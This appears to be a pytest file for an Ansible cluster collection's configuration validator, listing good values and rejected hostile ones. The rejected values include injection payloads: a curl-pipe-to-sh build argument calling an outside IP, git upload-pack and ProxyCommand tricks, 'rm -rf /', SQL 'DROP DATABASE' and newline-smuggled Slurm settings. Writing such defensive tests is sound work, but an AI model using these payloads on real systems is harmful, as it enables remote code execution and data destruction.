# Copyright (c) 2026, trainstack.cluster developers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import glob
import os

import pytest
import yaml

from ansible.errors import AnsibleFilterError
from ansible_collections.trainstack.cluster.plugins.filter.validation import (
    argument_spec_choices,
    argument_spec_types,
    conf_value_problems,
    inventory_host_problems,
    path_overlap_problems,
    type_problems,
    unknown_entries,
    unknown_variables,
    value_problems,
)

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))


def _load(path):
    with open(path, encoding="utf-8") as handle:
        return yaml.safe_load(handle)


ROLE_SPECS = {os.path.basename(os.path.dirname(os.path.dirname(p))): _load(p)
              for p in sorted(glob.glob(os.path.join(ROOT, "roles", "*", "meta", "argument_specs.yml")))}
ROLE_FORMATS = {os.path.basename(os.path.dirname(os.path.dirname(p))): _load(p)["value_formats"]
                for p in sorted(glob.glob(os.path.join(ROOT, "roles", "*", "meta", "value_formats.yml")))}
CONF_KEYS = _load(os.path.join(ROOT, "data", "conf_keys.yml"))
ALL_FORMATS = {name: spec for formats in ROLE_FORMATS.values() for name, spec in formats.items()}


def problems(fmt, value):
    return conf_value_problems({"v": value}, {"v": fmt}, CONF_KEYS)


GOOD = [
    ("slurm_word", "batch"), ("slurm_word", "h100"), ("slurm_word", "2-00:00:00"),
    ("slurm_value", "NO"), ("slurm_value", "bf_interval=30,bf_max_job_test=500"), ("slurm_value", '"two words"'),
    ("slurm_value", 45), ("slurm_value", "gpu[01-04]"),
    ("nccl_value", "=mlx5_0:1,mlx5_1:1"), ("nccl_value", "^docker,lo"), ("nccl_value", True), ("nccl_value", 0),
    ("ifname", "eth0"), ("ifname", "^docker0,lo"), ("ifname", "=ib0"), ("ifname_or_empty", ""),
    ("host", "2.debian.pool.ntp.org"), ("host", "10.0.0.1"), ("host", "fd00::1"), ("hostname", "gpu-01"),
    ("hostname", "gpu-01.cluster.example"), ("ip", "10.0.0.11"), ("ip", "2001:db8::1"),
    ("url", "http://deb.debian.org/debian"), ("url", "file:///srv/trainstack-mirror/apt"),
    ("proxy_url_or_empty", ""), ("proxy_url", "http://user:pw@proxy:3142"),
    ("chrony_makestep", "1.0 3"), ("chrony_makestep", "0.5 -1"), ("package", "vim"), ("package", "libnccl2=2.26.2-1+cuda12.8"),
    ("fingerprint", "EB693B3035CD5710E231E123A4B469963BF863CC"), ("db_name", "slurm_acct_db"),
    ("ini_key", "innodb_buffer_pool_size"), ("ini_value", "256M"), ("secret", "s3cr3t!pa$$"), ("bool", False), ("secret", "a'b\"c\\d;e--f#g"),
    ("secret", "correct horse battery staple"), ("secret", "pw\u00a01"),
    ("pip_requirement", "transformers"), ("pip_requirement", "deepspeed==0.16.4"), ("pip_requirement", "accelerate[deepspeed]>=1.0,<2"),
    ("pip_requirement", "numpy~=1.26.4"), ("mpi_env_key", "OMPI_MCA_btl_tcp_if_include"), ("mpi_env_key", "UCX_TLS"),
    ("hostlist", "gpu[01-04],cpu1"), ("hostlist_or_empty", ""),
    ("path", "/etc/nccl/topology.xml"), ("owned_dir", "/var/lib/slurm/slurmctld"), ("owned_dir", "/srv/nfs/slurm"),
    ("nccl_conf_file", "/etc/nccl.conf"), ("nccl_conf_file", "/opt/ml/nccl-site.conf"), ("xml_file", "/etc/nccl/topology.xml"),
    ("relative_path", "wheels/cu128"), ("file_name", "torch-2.7.0-cp311-linux_x86_64.whl"),
    ("text", "cat /proc/sys/kernel/random/boot_id"), ({"min": 1}, 30), ({"min": 0, "max": 1}, 0.95),
    ({"items": "slurm_word"}, ["a", "b"]),
    # issue 25's unusual-but-legal values
    ("pip_requirement", "deepspeed==0.16.4; platform_machine == 'x86_64'"), ("pip_requirement", "numpy >= 1.26, < 2"),
    ("pip_requirement", 'transformers[torch]>=4.44,!=4.45.0; python_version >= "3.10"'),
    ("release", "1.18.1"), ("version", "4.2"), ("cuda_arch", "9.0"), ("cuda_arch", "sm_90a"), ("cuda_arch", "100"),
    ("host_pattern", "slurm_compute:&gpu"), ("host_pattern", "gpu[01:04]"),
    ("owned_path", "/usr/local/bin/trainstack-torchrun"), ("owned_path", "/etc/trainstack/pytorch-launch.json"),
    ("owned_path", "/opt/ml/bin/launch"), ("owned_path", "/usr/local/sbin/x"),
    ("git_url", "https://github.com/NVIDIA/nccl-tests.git"), ("git_url", "../shared/mirrors/nccl-tests/nccl-tests.bundle"),
    ("git_url", "git@git.example.org:mirrors/nccl-tests.git"), ("git_url", "ssh://git@git.example.org/nccl-tests.git"),
    ("git_url", "/srv/mirror/nccl-tests.bundle"),
    ("build_arg", "CFLAGS=-O2 -g"), ("build_arg", "--with-verbs=/usr"), ("build_arg", "CXX=g++-11"),
    ({"words": ["auto", ""], "format": "path"}, "auto"), ({"words": ["auto", ""], "format": "path"}, ""),
    ({"words": ["auto", ""], "format": "path"}, "/usr/local/cuda-12.8"), ({"words": ["auto"], "format": "version"}, "4.2.2"),
    ({"words": [None], "format": "hostname"}, None), ({"words": [None], "format": "hostname"}, "ctl01"),
]

BAD = [
    # (format, value, fragment of the message)
    ("slurm_word", "batch\n", "contains a newline"),
    ("slurm_word", "my batch", "contains a space"),
    ("slurm_word", "a=b", "contains '='"),
    ("slurm_value", "NO\nAuthType=auth/none", "contains a newline"),
    ("slurm_value", "NO\rAuthType=auth/none", "contains a carriage return"),
    ("slurm_value", "NO\x00", "contains a NUL byte"),
    ("slurm_value", "NO\tx", "contains a tab"),
    ("slurm_value", "NO\u2028x", "U+2028"),
    ("slurm_value", "NO # comment", "'#'"),
    ("slurm_value", "NO AuthType=auth/none", "contains a space"),
    ("slurm_value", '"a" b "c"', "contains"),
    ("slurm_value", "", "must not be empty"),
    ("slurm_value", {"a": 1}, "must be a string, got a mapping"),
    ("slurm_value", True, "got a boolean"),
    ("slurm_key", "Kill Wait", "contains a space"),
    ("nccl_key", "nccl_debug", "must be "),
    ("nccl_value", "WARN\nNCCL_GRAPH_FILE=/tmp/g", "contains a newline"),
    ("nccl_value", "a b", "contains a space"),
    ("ifname", "eth0\nNCCL_GRAPH_FILE=/tmp/g", "contains a newline"),
    ("ifname", "a-very-long-interface", "must be "),
    ("host", "pool.ntp.org\nallow all", "contains a newline"),
    ("host", "10.0.0.1 iburst", "contains a space"),
    ("host", "-bad-", "must be a DNS name or an IP address"),
    ("hostname", "gpu_01", "must be a DNS name"),
    ("hostname", "gpu01\n", "contains a newline"),
    ("ip", "999.1.1.1", "must be an IPv4 or IPv6 address"),
    ("ip", "10.0.0.1\n", "contains a newline"),
    ("ip", "gpu-01", "must be an IPv4 or IPv6 address"),
    ("url", "http://m/debian\nURIs: http://evil", "contains a newline"),
    ("url", "ftp://m/debian", "must be "),
    ("url", "http://m/debian URIs:", "contains a space"),
    ("proxy_url", 'http://p";', "must be "),
    ("chrony_makestep", "1.0 3\nallow all", "contains a newline"),
    ("package", "-o=Dpkg::Options", "must be "),
    ("fingerprint", "EB693B30", "must be "),
    ("db_name", "slurm'; DROP DATABASE x; --", "contains"),
    ("db_name", "a`b", "must be "),
    ("ini_value", "256M\n[client]", "contains a newline"),
    ("ini_value", "1 # x", "'#'"),
    ("secret", "pw\nStorageHost=evil", "contains a newline"),
    ("secret", 'pw 1 "x"', "a space and a double quote"),
    ("secret", '"pw', "must not begin with a double quote"),
    ("bool", "yes", "must be true or false"),
    ("bool", [True], "must be true or false, got a list"),
    ("secret", "pw\u00a01\"", "whitespace U+00A0 and a double quote"),
    ("path", "var/lib/slurm", "absolute"),
    ("path", "/var/lib/slurm/../../etc", "'..'"),
    ("pip_requirement", "--index-url=http://198.51.100.7/simple", "not a pip option"),
    ("mpi_env_key", "LD_PRELOAD", "must be "),
    ("hostlist", "gpu[01-", "must be a Slurm hostlist such as gpu[01-04],cpu1: unbalanced '['"),
    ("hostlist", "gpu[4-1]", "reversed range"),
    ("mpi_env_key", "BASH_ENV", "must be "),
    ("pip_requirement", "numpy --pre", "contains a space"),
    ("pip_requirement", "-rrequirements.txt", "not a pip option"),
    ("path", "/opt/x;touch$IFS/tmp/p", "';' (a shell or Tcl metacharacter)"),
    ("owned_dir", "/opt/$(id)", "'$' (a shell or Tcl metacharacter)"),
    ("path", "/opt/[exec${IFS}id]", "'[' (a shell or Tcl metacharacter)"),
    ("path", "/opt/`id`", "'`' (a shell or Tcl metacharacter)"),
    ("path", "/var/lib/slurm/", "normalised"),
    ("path", "//var/lib/slurm", "normalised"),
    ("path", "/var/./lib", "normalised"),
    ("path", "/var/lib/slurm\n", "contains a newline"),
    ("owned_dir", "/", "system directory"),
    ("owned_dir", "/etc", "system directory"),
    ("owned_dir", "/var/lib", "system directory"),
    ("owned_dir", "/usr/lib/slurm", "system directory"),
    ("owned_dir", "/proc/1", "system directory"),
    ("nccl_conf_file", "/etc/passwd", "nccl*.conf"),
    ("nccl_conf_file", "/etc/sudoers.d/nccl.conf", "system directory"),
    ("xml_file", "/etc/passwd", ".xml"),
    ("relative_path", "../../etc", "relative path"),
    ("relative_path", "/etc/cron.d", "relative path"),
    ("relative_path", "a//b", "relative path"),
    ("file_name", "../../etc/cron.d/x", "must be a file name"), ("file_name", "..", "must be a file name"),
    ("text", "cat x\nrm -rf /", "contains a newline"),
    ({"min": 1}, 0, "at least 1"),
    ({"min": 0}, -1024, "at least 0"),
    ({"min": 0, "max": 1}, 1.5, "at most 1"),
    ({"min": 1}, "many", "must be a number"),
    ({"min": 1}, True, "must be a number"),
    ({"items": "slurm_word"}, "a", "must be a list"),
    ({"fields": {"a": "slurm_word"}}, ["a"], "must be a mapping"),
    # issue 25's held-out findings
    ("owned_path", "/etc/passwd", "would replace a system file"), ("owned_path", "/usr/bin/python3", "would replace a system file"),
    ("owned_path", "/etc/profile.d/x.sh", "would replace a system file"), ("owned_path", "/etc/cron.d/x", "would replace"),
    ("owned_path", "/root/x", "would replace"), ("owned_path", "/x", "would replace"), ("owned_path", "/etc/t/../shadow", "'..'"),
    ("git_url", "--upload-pack=touch /tmp/pwned", "contains a space"), ("git_url", "--upload-pack=id", "must not begin with '-'"),
    ("git_url", "ext::sh%20-c%20id", "transport helper"), ("git_url", "https://x/y.git;id", "contains ';'"),
    ("git_url", "ftp://x/y.git", "must be an https, ssh, git or file URL"),
    ("git_url", "ssh://-oProxyCommand=id/x", "must not name a host beginning with '-'"),
    ("url", "https://user:token@mirror.example.org/nhc-1.4.3.tar.gz", "must not carry credentials"),
    ("git_url", "ssh://git@-oProxyCommand=id/x", "must not name a host beginning with '-'"),
    # float() reads other scripts' digits
    ({"min": 1}, "\uff13\uff10\uff10", "must be a number"),
    ("build_arg", "--with-knem=$(curl -s http://198.51.100.7/x|sh)", "contains '$' (a shell metacharacter)"),
    ("build_arg", "--enable-mt`id`", "contains '`'"), ("build_arg", "CFLAGS=-O2;id", "contains ';'"),
    ("build_arg", "--enable-mt\nid", "contains a newline"),
    ("release", "v1.18.1", "must be "), ("release", "1.18", "must be "), ("version", "newest", "must be "),
    ("cuda_arch", "90 -Xcompiler -fplugin=/tmp/x.so", "contains a space"), ("cuda_arch", "hopper", "must be "),
    ("pip_requirement", "deepspeed; id #", "contains '#'"), ("pip_requirement", "deepspeed==1; $(id)", "contains '$'"),
    ("pip_requirement", "numpy; --pre", "contains a space"),
    ("controller_path", "/srv/cache;rm -rf ~", "contains a space"), ("controller_path", "/srv/cache;id", "contains ';'"),
    ("controller_path", "~root/x", "must be an absolute path"),
    ({"words": ["auto", ""], "format": "path"}, "/usr/local/cuda/../../../etc", "must not contain '..' (or one of: 'auto', '')"),
    ({"words": ["auto", ""], "format": "path"}, "usr/local/cuda", "must be an absolute path"),
    ({"words": ["auto"], "format": "version"}, "newest", "must be "),
    ({"words": [None], "format": "hostname"}, "ctl01;id", "must be a DNS name (or one of: null)"),
]


@pytest.mark.parametrize(("fmt", "value"), GOOD, ids=["%s-%d" % (g[0], i) for i, g in enumerate(GOOD)])
def test_good_values_fit(fmt, value):
    assert problems(fmt, value) == []


@pytest.mark.parametrize(("fmt", "value", "fragment"), BAD, ids=["%s-%d" % (b[0], i) for i, b in enumerate(BAD)])
def test_bad_values_are_named(fmt, value, fragment):
    found = problems(fmt, value)
    assert len(found) == 1 and found[0].startswith("v ") and fragment in found[0], found


def test_messages_never_carry_the_value():
    # The password check runs on secrets: the message names the variable and the character only.
    found = conf_value_problems({"slurm_dbd_db_password": "hunter2\nStorageHost=evil"}, ALL_FORMATS)
    assert found == ["slurm_dbd_db_password contains a newline"]


def test_a_list_variable_checks_every_element():
    found = conf_value_problems({"base_chrony_servers": ["10.0.0.1", "10.0.0.2\nallow all"]}, ALL_FORMATS)
    assert found == ["base_chrony_servers[1] contains a newline"]


@pytest.mark.parametrize(
    ("value", "allow", "expected"),
    [
        ({"KillWait": 45, "SchedulerParameters": "bf_interval=30"}, [], []),
        ({"KillWiat": 45}, [], ["slurm_config_extra: unknown key KillWiat (did you mean KillWait?) "
                                "(add slurm_config_extra to preflight_allow_unknown_keys to accept it)"]),
        ({"killwait": 45}, [], ["slurm_config_extra: unknown key killwait (did you mean KillWait?) "
                                "(add slurm_config_extra to preflight_allow_unknown_keys to accept it)"]),
        ({"TrainstackBogusOption": "yes"}, ["slurm_config_extra"], []),
        ({"AuthType": "auth/none"}, ["slurm_config_extra"],
         ["slurm_config_extra: key AuthType is set by the role itself and cannot be overridden here"]),
        ({"KillWait": "30\nAuthType=auth/none"}, [], ["slurm_config_extra.KillWait contains a newline"]),
        ({"Kill=Wait": 1}, [], ["slurm_config_extra: key 'Kill=Wait' contains '='"]),
        ({"KillWait": [30]}, [], ["slurm_config_extra.KillWait must be a string, got a list"]),
        ("KillWait=30", [], ["slurm_config_extra must be a mapping, got a string"]),
    ],
    ids=["known", "typo", "case", "escape-hatch", "owned-despite-hatch", "newline", "key-equals", "list-value", "string"],
)
def test_slurm_config_extra_keys(value, allow, expected):
    assert conf_value_problems({"slurm_config_extra": value}, ALL_FORMATS, CONF_KEYS, allow) == expected


def test_partition_options_are_checked_per_partition():
    partitions = [{"name": "batch", "nodes": "ALL"},
                  {"name": "gpu", "nodes": "gpu[01-02]", "options": {"OverSubscribe": "NO", "Nodes": "x"}}]
    assert conf_value_problems({"slurm_partitions": partitions}, ALL_FORMATS, CONF_KEYS) == [
        "slurm_partitions[1].options: key Nodes is set by the role itself and cannot be overridden here"]


def test_nccl_null_removes_a_derived_value():
    assert conf_value_problems({"nccl_settings": {"NCCL_IB_HCA": None}}, ALL_FORMATS) == []


def test_unknown_format_is_an_error():
    with pytest.raises(AnsibleFilterError, match="unknown format"):
        problems("nonsense", "x")


def test_type_problems():
    types = {"a": "str", "b": "list", "c": "str", "d": "str"}
    assert type_problems({"a": ["x"], "b": ["x"], "c": "x", "d": {"k": 1}}, types) == [
        "a must be a string, got a list", "d must be a string, got a mapping"]
    # list and dict options given something else; a version YAML read as a number; a count is no version problem
    types = {"p": "list", "m": "dict", "v": "str", "n": "str"}
    assert type_problems({"p": "numpy", "m": ["x"], "v": 12.1, "n": 580}, types) == [
        'm must be a mapping, got a list', 'p must be a list, got a string (write ["numpy"])',
        "v must be quoted: YAML read it as the number 12.1 (12.10 becomes 12.1)"]


def test_type_problems_in_the_users_words():
    # What role argument validation would refuse in its own jargon, refused first in the user's words (issue 25).
    types = {"s": "bool", "t": "bool", "n": "int", "m": "int", "f": "float", "c": "str", "r": "int", "h": "list", "p": "path"}
    choices = {"c": ["git", "url", "mirror"], "r": [0, 1, 2], "h": ["mpi", "ddp"]}
    assert type_problems({"s": "maybe", "t": "yes", "n": "soon", "m": "30", "f": "fast", "c": "gti", "r": "1", "h": ["mpi", "dpp"],
                          "p": ["/opt/x"]}, types, choices) == [
        'c must be one of: git, url, mirror, got "gti" (did you mean git?)',
        'f must be a number, got "fast"',
        'h[1] must be one of: mpi, ddp, got "dpp" (did you mean ddp?)',
        'n must be a whole number, got "soon"',
        "p must be a path (a string), got a list",
        's must be true or false, got "maybe"']
    # null is every optional option's "unset"
    assert type_problems({"n": None, "s": None, "c": None}, types, choices) == []


def test_argument_spec_choices():
    assert argument_spec_choices(ROLE_SPECS)["nhc_source"] == ["git", "url", "mirror"]


def test_one_message_per_wrong_value():
    # The wrong type is reported once, by type_problems; values of the right type still meet their format.
    types = {"ucx_version": "str", "pytorch_venv": "path", "slurm_config_extra": "dict", "ucx_url": "str"}
    assert value_problems({"ucx_version": {"a": 1}, "pytorch_venv": ["/opt/x;id"], "slurm_config_extra": "KillWait=30",
                           "ucx_url": "https://x/ y"}, types, ALL_FORMATS, CONF_KEYS) == [
        "pytorch_venv must be a path (a string), got a list", "slurm_config_extra must be a mapping, got a string",
        "ucx_version must be a string, got a mapping", "ucx_url contains a space"]


def test_fields_refuse_unknown_keys_naming_the_closest():
    manifest = {"files": [{"url": "https://example.org/a.whl", "sha256": "0" * 64, "dets": "w"}], "apt": []}
    assert conf_value_problems({"trainstack_gpu_mirror_manifest": manifest}, ALL_FORMATS) == [
        "trainstack_gpu_mirror_manifest.files[0]: unknown key dets (did you mean dest?) (known keys: url, sha256, dest)"]
    assert conf_value_problems({"nhc_mounts": [{"path": "/scratch", "min_free_pct": 5}]}, ALL_FORMATS) == [
        "nhc_mounts[0]: unknown key min_free_pct (did you mean min_free_percent?) (known keys: path, min_free_percent)"]
    # the escape hatch of the dict-valued variables applies here too; a partition's default is a known key
    assert conf_value_problems({"nhc_mounts": [{"path": "/scratch", "x": 1}]}, ALL_FORMATS, None, ["nhc_mounts"]) == []
    assert conf_value_problems({"slurm_partitions": [{"name": "b", "nodes": "ALL", "default": True}]}, ALL_FORMATS, CONF_KEYS) == []


@pytest.mark.parametrize(("value", "expected"), [
    ({"Debian": [12, "13"], "openSUSE Leap": ["15"]}, []),
    ({"Rocky": [9.4]}, ["preflight_supported_os.Rocky[0] must be a major version such as 12 "
                        "(ansible_distribution_major_version has no minor part), got 9.4"]),
    ({"Debian": "12"}, ["preflight_supported_os.Debian must be a list, got a string"]),
], ids=["numbers-and-strings", "minor-version", "string"])
def test_supported_os_versions(value, expected):
    assert conf_value_problems({"preflight_supported_os": value}, ALL_FORMATS) == expected


def test_unknown_entries_name_the_closest():
    assert unknown_entries(["base", "slrum", 3], ["base", "slurm"], "preflight_roles", "a role of this collection") == [
        'preflight_roles[1] "slrum" is not a role of this collection (did you mean slurm?)',
        "preflight_roles[2] 3 is not a role of this collection"]


def test_unknown_variables_name_the_closest():
    known = ["slurm_partitions", "nccl_settings", "base_chrony_servers"]
    assert unknown_variables(
        ["slurm_partitoins", "nccl_settings", "other_var", "__slurm_x", "base_chrony_server", "slurm_zzz", "slurm_ok"],
        known, ["slurm_", "nccl_", "base_"], ["slurm_ok"]) == [
        "base_chrony_server is not a variable of any role (did you mean base_chrony_servers?)",
        "slurm_partitoins is not a variable of any role (did you mean slurm_partitions?)",
        "slurm_zzz is not a variable of any role"]


def test_unknown_variables_hint_at_a_name_kept_on_purpose():
    # Held-out round 8 (issue 25): slurm_site_notes was hinted as slurm_cluster_name, not the allowed slurm_site_note.
    assert unknown_variables(["slurm_site_notes"], ["slurm_cluster_name", "slurm_partitions"], ["slurm_"],
                             ["slurm_site_note"]) == [
        "slurm_site_notes is not a variable of any role (did you mean slurm_site_note?)"]


@pytest.mark.parametrize(("value", "problem"), [
    ("", None), ("g++-12", None), ("/usr/bin/g++-12", None),
    ("/usr/bin/../g++", "cuda_host_compiler must not contain '..'"),
    ("g++ -o /etc/passwd", "cuda_host_compiler contains a space"),
    ("/usr/bin/g++;id", "cuda_host_compiler contains ';' (a shell or Tcl metacharacter)"),
])
def test_program_is_a_command_name_or_an_absolute_path(value, problem):
    # nvcc -ccbin takes either (held-out round 8: a path was refused as not one word).
    assert conf_value_problems({"cuda_host_compiler": value}, {"cuda_host_compiler": "program_or_empty"}) == (
        [problem] if problem else [])


def test_a_field_with_choices_is_refused_in_the_users_words():
    # Held-out round 8: argument validation said "value of state must be one of ... found in slurm_partitions".
    spec = {"items": {"fields": {"name": "slurm_word", "state": {"choices": ["UP", "DOWN", "DRAIN", "INACTIVE"]}}}}
    assert conf_value_problems({"slurm_partitions": [{"name": "a", "state": "DRAIN"}, {"name": "b", "state": "OPEN"},
                                                     {"name": "c", "state": "DRIAN"}]}, {"slurm_partitions": spec}) == [
        'slurm_partitions[1].state must be one of: UP, DOWN, DRAIN, INACTIVE, got "OPEN"',
        'slurm_partitions[2].state must be one of: UP, DOWN, DRAIN, INACTIVE, got "DRIAN" (did you mean DRAIN?)']


@pytest.mark.parametrize("path", ["/tmp/topology.xml", "/var/tmp/nccl/topology.xml", "/dev/shm/nccl.conf"])
def test_nccl_files_never_in_a_directory_anyone_may_write_to(path):
    fmt = "nccl_conf_file" if path.endswith(".conf") else "xml_file"
    (problem,) = conf_value_problems({"p": path}, {"p": fmt})
    assert problem.startswith("p lies in a directory anyone may write to") or "system directory" in problem


@pytest.mark.parametrize(("typo", "meant"), [
    # cut short: as similar to acceptance_mpi_prefix by ratio alone (issue 25: the hint named that one)
    ("acceptance_mpi_env", "acceptance_mpi_environment"),
    ("acceptance_mpi_environments", "acceptance_mpi_environment"),
    ("acceptance_mpi_prefx", "acceptance_mpi_prefix"),
    ("slurm_dbd_password", "slurm_dbd_db_password"),
])
def test_the_typo_hint_names_the_meant_variable(typo, meant):
    known = ["acceptance_mpi_prefix", "acceptance_mpi_environment", "acceptance_mpi_group", "slurm_dbd_db_password",
             "slurm_dbd_db_user", "slurm_dbd_port"]
    assert unknown_variables([typo], known, ["acceptance_", "slurm_"]) == [
        "%s is not a variable of any role (did you mean %s?)" % (typo, meant)]


# The declarations themselves: every declared variable is an option of its role (or a shared one),
# every format exists, and every role's defaults fit their own formats.
SHARED = {"inventory_hostname"}


@pytest.mark.parametrize("role", sorted(ROLE_FORMATS))
def test_declared_variables_are_role_options(role):
    options = set(argument_spec_types({role: ROLE_SPECS[role]}))
    undeclared = [name for name in ROLE_FORMATS[role]
                  if name not in options and name not in SHARED and not name.startswith("trainstack_")]
    assert undeclared == []


@pytest.mark.parametrize("role", sorted(ROLE_SPECS))
def test_role_defaults_fit_their_formats(role):
    defaults = {}
    for entry in ROLE_SPECS[role]["argument_specs"].values():
        for name, spec in entry.get("options", {}).items():
            default = spec.get("default")
            if default is not None and not (isinstance(default, str) and "{{" in default):
                defaults[name] = default
    assert conf_value_problems(defaults, ALL_FORMATS, CONF_KEYS) == []
    assert type_problems(defaults, argument_spec_types(ROLE_SPECS), argument_spec_choices(ROLE_SPECS)) == []


def test_every_role_is_read():
    assert {"base", "cuda", "nccl", "nvidia_driver", "preflight", "slurm"} <= set(ROLE_SPECS)
    assert set(ROLE_FORMATS) <= set(ROLE_SPECS)


# Round 9 (issue 25): a host delegated to must be an inventory host; two roles' directories must be apart.
@pytest.mark.parametrize("values, hosts, expected", [
    ({"upgrade_slurm_controller": "ctl01"}, ["ctl01", "gpu01"], []),
    ({"upgrade_slurm_controller": "", "acceptance_drain_host": None}, ["gpu01"], []),
    ({"upgrade_slurm_controller": "ctl1"}, ["ctl01", "gpu01"],
     ['upgrade_slurm_controller must name a host of the inventory (the host its tasks are delegated to), got "ctl1" (did you mean ctl01?)']),
    ({"nvidia_driver_reboot_slurm_controller": "slurm-head.example.com"}, ["gpu01"],
     ['nvidia_driver_reboot_slurm_controller must name a host of the inventory (the host its tasks are delegated to), '
      'got "slurm-head.example.com"']),
    ({"acceptance_drain_host": ["ctl01"]}, ["ctl01"],
     ['acceptance_drain_host must name a host of the inventory (the host its tasks are delegated to), got ["ctl01"]']),
])
def test_inventory_host_problems(values, hosts, expected):
    assert inventory_host_problems(values, hosts) == expected


@pytest.mark.parametrize("paths, expected", [
    ({"build_artifact_root": "/opt/trainstack", "build_artifact_build_dir": "/var/tmp/trainstack-build",
      "acceptance_scratch_dir": "/var/tmp/trainstack-acceptance"}, []),
    # A shared prefix of the name is not nesting.
    ({"build_artifact_root": "/opt/trainstack", "acceptance_scratch_dir": "/opt/trainstack-acceptance"}, []),
    ({"build_artifact_root": "/var/tmp/trainstack-acceptance", "acceptance_scratch_dir": "/var/tmp/trainstack-acceptance"},
     ["build_artifact_root and acceptance_scratch_dir are the same directory (/var/tmp/trainstack-acceptance): "
      "each needs a directory of its own"]),
    ({"build_artifact_root": "/opt/trainstack", "build_artifact_build_dir": "/opt/trainstack/build"},
     ["build_artifact_build_dir (/opt/trainstack/build) lies inside build_artifact_root (/opt/trainstack): "
      "each needs a directory of its own, apart from the other's"]),
    ({"build_artifact_root": "/srv/x/y", "acceptance_scratch_dir": "/srv/x"},
     ["build_artifact_root (/srv/x/y) lies inside acceptance_scratch_dir (/srv/x): each needs a directory of its own, apart from the other's"]),
    # Wrong types and relative paths are the format checks' to report.
    ({"build_artifact_root": ["/opt"], "acceptance_scratch_dir": "relative"}, []),
])
def test_path_overlap_problems(paths, expected):
    assert path_overlap_problems(paths) == expected


@pytest.mark.parametrize("values, expected", [
    # A whole number with a control character is not one (argument validation would read "8690\n" as 8690).
    ({"build_artifact_serve_port": "8690\n"}, ['build_artifact_serve_port must be a whole number, got "8690\\n"']),
    ({"build_artifact_serve_port": " 8690 "}, []),
])
def test_whole_numbers_with_control_characters(values, expected):
    assert type_problems(values, {"build_artifact_serve_port": "int"}) == expected


@pytest.mark.parametrize("value, expected", [
    (8, []), ("auto", []), (0, []),
    (-1, ["nhc_gpu_count must be at least 0, got -1 (or one of: 'auto')"]),
    ("eight", ["nhc_gpu_count must be a number (or one of: 'auto')"]),
])
def test_nhc_gpu_count_rule(value, expected):
    formats = yaml.safe_load(open(os.path.join(ROOT_FOR_FORMATS, "roles", "nhc", "meta", "value_formats.yml"), encoding="utf-8"))
    assert conf_value_problems({"nhc_gpu_count": value}, formats["value_formats"]) == expected


ROOT_FOR_FORMATS = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
